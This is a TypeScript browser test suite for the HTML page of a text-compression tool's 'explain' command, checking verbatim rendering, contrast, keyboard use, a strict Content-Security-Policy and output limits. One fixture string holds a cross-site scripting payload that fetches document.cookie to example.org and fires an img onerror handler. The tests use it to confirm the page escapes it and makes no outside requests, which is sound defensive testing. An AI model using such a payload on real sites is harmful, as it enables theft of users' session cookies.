import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runPith, temporaryFolder } from '../cli/run-pith.ts';
import { sampleText } from '../cli/sample-text.ts';
import { browserName, openPage, type View } from './browser.ts';

/** Skipped by name where there is no browser, unless everything must be there. */
const inBrowser = browserName !== undefined || process.env['CI'] === 'true' ? it : it.skip;

const hostile = [
  '</section><script>fetch("https://example.org/" + document.cookie)</script><img src=x onerror="alert(1)">',
  'a "quoted" word & an &amp; entity; null \0 and return \r and tab \t, 漁港の記録 🌊 مرحبا بالعالم',
  `${'unbroken'.repeat(60)} https://example.org/${'path/'.repeat(60)}`,
  '| a | wide | table |\n|---|---|---|\n| 1 | 2 | 3 |',
].join('\n\n');

interface Line {
  readonly document: string;
  readonly spans: readonly (readonly [number, number])[];
}

/** A page over two documents, and the spans that compress keeps with the same options. */
async function pageOverSample(options: readonly string[]) {
  const directory = temporaryFolder();
  const sources: Readonly<Record<string, string>> = {
    'a.md': `# Keepers\n\n${sampleText(5000)}\n\n${hostile}\n\n## Gates\n\n${sampleText(3000, 5)}`,
    'code.ts': 'export function close(gate: string): string {\n  return gate + " closed";\n}\n'.repeat(8),
  };
  for (const [name, text] of Object.entries(sources)) writeFileSync(join(directory, name), text);
  const words = ['a.md', 'code.ts', ...options, '--quiet'];
  const explained = await runPith(['explain', ...words, '--html', 'why.html'], { directory });
  expect(explained).toMatchObject({ code: 0, stdout: '', stderr: '' });
  const compressed = await runPith(['compress', ...words, '--format', 'jsonl'], { directory });
  const lines = compressed.stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Line);
  const kept = lines.map(({ document, spans }) =>
    spans.map(([start, end]) => sources[document]?.slice(start, end)).join(''),
  );
  return { path: join(directory, 'why.html'), kept, sources };
}

const views: readonly View[] = [
  { width: 1280, height: 900, scheme: 'light' },
  { width: 1280, height: 900, scheme: 'dark' },
  { width: 390, height: 844, scheme: 'light' },
  { width: 390, height: 844, scheme: 'dark' },
  { width: 780, height: 1100, media: 'print' },
];

/** What of each document is not in a `del`, and all of it. */
const TEXTS = `[...document.querySelectorAll('main h2')].map((heading) => {
  let kept = '', all = '';
  for (let next = heading.nextElementSibling; next && next.tagName !== 'H2'; next = next.nextElementSibling) {
    const text = next.querySelector('.text');
    if (!text) continue;
    all += text.textContent;
    const copy = text.cloneNode(true);
    for (const dropped of copy.querySelectorAll('del')) dropped.remove();
    kept += copy.textContent;
  }
  return { name: heading.textContent, kept, all };
})`;

/** The contrast of text against what lies below it, by WCAG 2. */
const CONTRAST = `((selector, pseudo) => {
  const canvas = document.createElement('canvas').getContext('2d', { willReadFrequently: true });
  const rgb = (color) => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const light = (color) => {
    const [r, g, b] = rgb(color).map((v) => (v / 255 <= 0.03928 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const ground = (element) => {
    for (let at = element; at; at = at.parentElement) {
      const color = getComputedStyle(at).backgroundColor;
      if (rgb(color)[3] === 255) return color;
    }
    return 'white';
  };
  const element = document.querySelector(selector);
  const [a, b] = [light(getComputedStyle(element).color), light(ground(element))].sort((x, y) => y - x);
  return (a + 0.05) / (b + 0.05);
})`;

describe('the page of pith explain', { timeout: 120_000 }, () => {
  inBrowser('shows the source, and as kept what compress writes', async () => {
    const { path, kept, sources } = await pageOverSample(['-1', '-r', '4', '--protect', 'lamps']);
    await using page = await openPage(path);
    const texts = await page.evaluate<{ name: string; kept: string; all: string }[]>(TEXTS);
    const plain = (text = '') => text.replaceAll('\0', '\u2400');
    expect(texts.map(({ name }) => name)).toEqual(Object.keys(sources));
    expect(texts.map(({ all }) => all)).toEqual(Object.values(sources).map(plain));
    expect(texts.map((text) => text.kept)).toEqual(kept.map(plain));
    expect(
      await page.evaluate(`document.querySelectorAll('main section script, main section img').length`),
    ).toBe(0);
    expect(page.requests.filter((url) => !/^(?:file|data):/.test(url))).toEqual([]);
    expect(page.complaints).toEqual([]);
  });

  inBrowser('is legible at every width and scheme, and never wider than the window', async () => {
    const { path } = await pageOverSample([
      '-1',
      '-r',
      '4',
      '-q',
      'Who painted the lamps?',
      '--protect',
      'lamps',
    ]);
    await using page = await openPage(path);
    const wide = `[document.documentElement.scrollWidth, innerWidth]`;
    for (const view of views) {
      await page.view(view);
      const [content, room] = await page.evaluate<[number, number]>(wide);
      expect(content).toBeLessThanOrEqual(room ?? 0);
      const contrast = (selector: string) => page.evaluate<number>(`${CONTRAST}('${selector}')`);
      expect(await contrast('section.has .text')).toBeGreaterThanOrEqual(7);
      for (const selector of ['.place', '.facts dt', '.reasons li', '#why > div', 'nav a'])
        expect(await contrast(selector)).toBeGreaterThanOrEqual(4.5);
      expect(await contrast('section del')).toBeGreaterThanOrEqual(3);
      expect((await page.screenshot()).length).toBeGreaterThan(20_000);
    }
    expect(page.complaints).toEqual([]);
  });

  inBrowser('says why under the pointer and at the keyboard', async () => {
    const { path } = await pageOverSample(['-1', '-r', '4', '--protect', 'lamps']);
    await using page = await openPage(path);
    await page.view({ width: 1280, height: 900 });
    const said = () => page.evaluate<string>(`document.querySelector('#why').textContent`);
    const goTo = async (selector: string) => {
      const [x = 0, y = 0] = await page.evaluate<number[]>(`(() => {
        const element = document.querySelector('${selector}');
        element.scrollIntoView({ block: 'center' });
        const { x, y, width, height } = element.getBoundingClientRect();
        return [x + width / 2, y + height / 2];
      })()`);
      await page.moveTo(x, y);
      return said();
    };
    expect(await goTo('i.protected[data-u]')).toMatch(
      /^lamps kept: protected, whatever the score · \d tokens? · Passage \d/,
    );
    expect(await goTo('del i[data-u$=score]')).toMatch(
      /dropped: score below the one to pass · score [\d.]+, to pass: [\d.]+ · \d+ tokens? · Passage 1 · 0–\d+/,
    );
    await page.evaluate(`document.querySelector('#p2').focus(); document.querySelector('#p1').focus()`);
    await page.press('ArrowRight');
    await page.press('ArrowRight');
    expect(await said()).toMatch(/^Station (?:kept|dropped): score/);
    await page.press('ArrowLeft');
    expect(await said()).toMatch(/^# Keepers (?:kept|dropped): score/);
    await page.press('Tab');
    expect(await page.evaluate(`document.activeElement.id`)).toBe('p2');
    expect(await said()).toMatch(/^Passage 2 · \d+–\d+ · \d+ of \d+ units kept/);
    expect(await page.evaluate(`document.querySelectorAll('.here').length`)).toBe(0);
    expect(page.complaints).toEqual([]);
  });

  inBrowser('hides what is dropped when asked to', async () => {
    const { path } = await pageOverSample(['-1', '-r', '4']);
    await using page = await openPage(path);
    const height = `document.querySelector('main').offsetHeight`;
    const before = await page.evaluate<number>(height);
    await page.evaluate(`document.querySelector('#only').click()`);
    expect(await page.evaluate<number>(height)).toBeLessThan(before);
    expect(page.complaints).toEqual([]);
  });

  it('asks for nothing from elsewhere, and lets nothing else run', async () => {
    const { path } = await pageOverSample(['-1', '-r', '4']);
    const html = readFileSync(path, 'utf8');
    expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src 'none';/);
    expect(html.match(/<(?:script|link|img|iframe|object|base|form)\b[^>]*>/g)).toEqual([
      '<link rel="icon" href="data:,">',
      '<script>',
    ]);
    expect(html.match(/\bhref="(?!#|data:,)[^"]*"/g)).toBeNull();
    expect(html).not.toContain('url(');
  });

  it('shows no more than it is told, and says how much that leaves', async () => {
    const directory = temporaryFolder();
    writeFileSync(join(directory, 'in.txt'), sampleText(200_000));
    const words = ['explain', '-1', 'in.txt', '-t', '8000', '--quiet', '--html', '-'];
    const { stdout } = await runPith([...words, '--limit', '30000'], { directory });
    const shown = [...stdout.matchAll(/<section id="p(\d+)"/g)].map(([, number]) => Number(number));
    expect(shown.length).toBeGreaterThan(10);
    expect(stdout.length).toBeLessThan(600_000);
    const [, passages, characters] =
      /(\d+) passages \(([\d,]+) characters\) more are not shown/.exec(stdout) ?? [];
    expect(Number(passages)).toBeGreaterThan(50);
    expect(Number(characters?.replaceAll(',', ''))).toBeLessThan(200_000 - 30_000);
    for (const [, number] of stdout.matchAll(/href="#p(\d+)"/g)) expect(shown).toContain(Number(number));
  });

  it('says so of an input within its budget', async () => {
    const { stdout } = await runPith(['explain', '-1', '-t', '500', '--quiet', '--html', '-'], {
      input: 'Nobody was hurt.\n',
    });
    expect(stdout).toContain('1 passage kept: the input is within its budget');
    expect(stdout).toContain('<h2 id="d1">standard input</h2>');
    expect(stdout).not.toContain('id="only"');
    expect(stdout).not.toContain('<nav');
  });
});
